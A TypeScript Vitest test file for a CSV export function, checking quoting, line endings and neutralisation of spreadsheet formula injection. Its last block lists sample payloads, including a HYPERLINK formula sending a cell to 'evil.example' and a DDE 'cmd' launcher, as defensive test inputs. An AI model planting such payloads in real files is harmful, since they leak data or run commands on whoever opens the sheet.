import { describe, expect, test } from 'vitest';
import { csv, type Cell } from '../../src/web/csv.ts';

async function* each(rows: readonly Cell[][]) {
  yield* rows;
}

async function write(...rows: Cell[][]): Promise<string> {
  let text = '';
  for await (const line of csv(['a', 'b'], each(rows))) text += line;
  return text;
}
/** The only cell, as written. */
const cell = async (value: Cell): Promise<string> => (await write([value])).slice('\uFEFFa,b\r\n'.length, -2);

/** Reads by RFC 4180, with any separator, as a spreadsheet does. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  const part = new RegExp(
    `(?:"((?:[^"]|"")*)"([^${separator}\r\n]*)|([^${separator}\r\n]*))(${separator}|\r\n|\r|\n|$)`,
    'gy',
  );
  const from = text.replace(/^\uFEFF/, '');
  for (let found = part.exec(from); found; found = part.exec(from)) {
    const [, quoted, rest = '', plain, end] = found;
    rows.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"') + rest);
    if (part.lastIndex >= from.length) break;
    if (end !== separator) rows.push([]);
  }
  return rows;
}

describe('a table as CSV', () => {
  test('has a byte order mark, the head and a line for each row, ended by CR and LF', async () => {
    expect(await write(['김서연', 1], ['x', 2])).toBe('\uFEFFa,b\r\n김서연,1\r\nx,2\r\n');
    expect(await write()).toBe('\uFEFFa,b\r\n');
  });

  test('quotes what would otherwise end a cell or a line', async () => {
    const hard = ['a,b', 'say "so"', 'two\r\nlines', ' edges ', 'a;b', 'plain', ''];
    expect(read(await write(hard))).toEqual([['a', 'b'], hard]);
    expect(await cell('say "so", twice')).toBe('"say ""so"", twice"');
    expect(await cell('plain')).toBe('plain');
  });

  test('writes times as ISO 8601 in UTC, and nothing for what there isn’t', async () => {
    expect(await cell(new Date('2026-11-24T05:03:26Z'))).toBe('2026-11-24T05:03:26.000Z');
    expect(await write([null, undefined, false])).toContain('\r\n,,false\r\n');
  });

  test('asks for a row only when the one before is taken', async () => {
    let asked = 0;
    async function* counting() {
      for (;;) yield [(asked += 1)];
    }
    const lines = csv(['n'], counting());
    await lines.next();
    expect(asked).toBe(0);
    await lines.next();
    expect(asked).toBe(1);
    await lines.return();
    expect((await lines.next()).done).toBe(true);
  });
});

describe('what a spreadsheet would compute', () => {
  const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
  const formulas = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    'Kim;=1+1;',
    'Kim",=1+1,"',
    'Kim\n=1+1',
    'Kim";=1+1;"',
  ];

  test.each(signs)('is text when it begins with %j', async (sign) => {
    expect(read(await write([`${sign}1`]))[1]).toEqual([`'${sign}1`]);
  });

  test.each(formulas)('is text, whatever separates cells there: %j', async (formula) => {
    const text = await write(['first', formula, 'last']);
    for (const separator of [',', ';', '\t']) {
      for (const cells of read(text, separator)) {
        for (const found of cells) expect(found).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
      }
    }
  });

  test('leaves alone what only has such a sign inside, and numbers', async () => {
    for (const harmless of ['a=b', 'seoyeon.kim+work@example.com', 'Anne-Marie', "'quoted", '2026-11-24'])
      expect(await cell(harmless)).toBe(harmless);
    expect(await cell(-5)).toBe('-5');
  });
});
